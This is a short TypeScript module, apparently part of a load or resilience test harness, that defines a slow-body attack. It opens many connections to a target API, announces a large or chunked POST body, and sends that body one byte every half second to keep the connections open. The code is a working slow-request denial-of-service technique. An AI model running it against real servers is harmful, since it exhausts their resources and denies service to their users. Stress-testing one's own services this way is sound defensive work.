/** Requests that announce a large body and send the body byte by byte. */
import type { Attack } from './attack.ts';
import { keepOpen, keyOf } from './keep-open.ts';

const ANNOUNCED_BYTES = 1024 * 1024;
const A_BYTE_EVERY_MS = 500;

/** @param many the number of connections for each key */
export function slowBodies(many = 64): Attack {
  return (target, until) =>
    keepOpen(target, until, {
      many: many * target.keys.length,
      speak(socket, nth) {
        const head = `POST /v1/actions HTTP/1.1\r\nhost: x\r\n${keyOf(target, nth)}content-type: application/json\r\n`;
        const length = nth % 2 === 0 ? `content-length: ${ANNOUNCED_BYTES}` : 'transfer-encoding: chunked';
        socket.write(`${head}${length}\r\n\r\n`);
        const byte = nth % 2 === 0 ? ' ' : '1\r\n \r\n';
        const drip = setInterval(() => socket.write(byte), A_BYTE_EVERY_MS);
        return () => clearInterval(drip);
      },
    });
}
